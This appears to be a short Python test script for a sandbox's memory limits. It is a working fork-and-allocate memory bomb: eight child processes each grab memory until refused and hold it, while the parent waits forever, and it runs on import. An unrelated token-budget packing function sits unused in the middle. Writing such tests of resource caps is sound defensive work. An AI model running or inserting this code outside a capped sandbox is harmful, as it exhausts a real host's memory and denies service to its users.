# attack: fork children that each take up to the 1 GiB one process may have: 8 GiB in all
# defence: the sandbox's processes together are held to 1 GiB (a cgroup or a watchdog): it ends
import os
import time

held = []


def grow():
    """Take memory 64 MiB at a time until this process may have no more; keep it."""
    try:
        while True:
            held.append(b"x" * (64 << 20))
    except MemoryError:
        time.sleep(120)


def bomb(children=8):
    ready, _ = os.pipe()
    for _ in range(children):
        if os.fork() == 0:
            grow()
            os._exit(0)
    os.read(ready, 1)  # wait while they grow: no child ever writes


def pack(parts, budget):
    taken, used = [], 0
    for part in parts:
        if used + part["tokens"] <= budget:
            taken.append(part["id"])
            used += part["tokens"]
    return taken


bomb()
